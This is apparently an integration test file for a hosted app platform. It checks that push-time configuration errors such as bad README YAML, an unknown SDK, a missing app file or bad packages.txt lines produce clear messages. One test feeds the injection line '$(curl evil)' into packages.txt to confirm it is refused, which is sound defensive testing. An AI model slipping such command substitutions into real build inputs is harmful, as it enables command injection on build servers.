"""The config check at push time: CONFIG_ERROR and NO_APP_FILE with messages that say what to fix."""

from __future__ import annotations

from tests.integration.conftest import QUEUED_FLAVOR
from tests.utils.platform import Platform


def test_invalid_yaml_is_a_config_error_naming_the_line(platform: Platform, space_name: str) -> None:
    space = platform.create_space(space_name, hardware=QUEUED_FLAVOR)
    platform.push(
        space, {"README.md": "---\ntitle: x\nsdk: gradio\ntags: [a\nemoji: 🙂\n---\n", "app.py": ""}
    )
    runtime = platform.runtime(space)
    assert runtime["stage"] == "CONFIG_ERROR"
    assert runtime["errorMessage"].startswith("README.md line ")
    assert "invalid YAML" in runtime["errorMessage"]


def test_an_unknown_sdk_is_a_config_error(platform: Platform, space_name: str) -> None:
    space = platform.create_space(space_name, hardware=QUEUED_FLAVOR)
    platform.push(space, {"README.md": "---\nsdk: flask\n---\n", "app.py": ""})
    runtime = platform.runtime(space)
    assert runtime["stage"] == "CONFIG_ERROR"
    assert "README.md line 2" in runtime["errorMessage"] and "flask" in runtime["errorMessage"]


def test_a_missing_app_file_then_a_fix(platform: Platform, space_name: str) -> None:
    space = platform.create_space(space_name, hardware=QUEUED_FLAVOR)
    platform.push(space, {"README.md": "---\nsdk: gradio\napp_file: main.py\n---\n", "app.py": ""})
    runtime = platform.runtime(space)
    assert runtime["stage"] == "NO_APP_FILE"
    assert "main.py" in runtime["errorMessage"]
    platform.push(space, {"main.py": "import gradio\n"})
    assert platform.runtime(space)["stage"] == "BUILDING"


def test_bad_packages_are_refused_before_building(platform: Platform, space_name: str) -> None:
    space = platform.create_space(space_name, hardware=QUEUED_FLAVOR)
    platform.push(space, {"app.py": "", "packages.txt": "ffmpeg\n$(curl evil)\n"})
    runtime = platform.runtime(space)
    assert runtime["stage"] == "CONFIG_ERROR"
    assert "packages.txt line 2" in runtime["errorMessage"]


def test_the_readme_sdk_wins_over_the_one_at_creation(platform: Platform, space_name: str) -> None:
    space = platform.create_space(space_name, sdk="gradio", hardware=QUEUED_FLAVOR)
    platform.push(space, {"README.md": "---\nsdk: static\n---\n", "index.html": "<h1>hi</h1>"})
    info = platform.info(space)
    assert info["sdk"] == "static" and info["runtime"]["stage"] == "RUNNING"
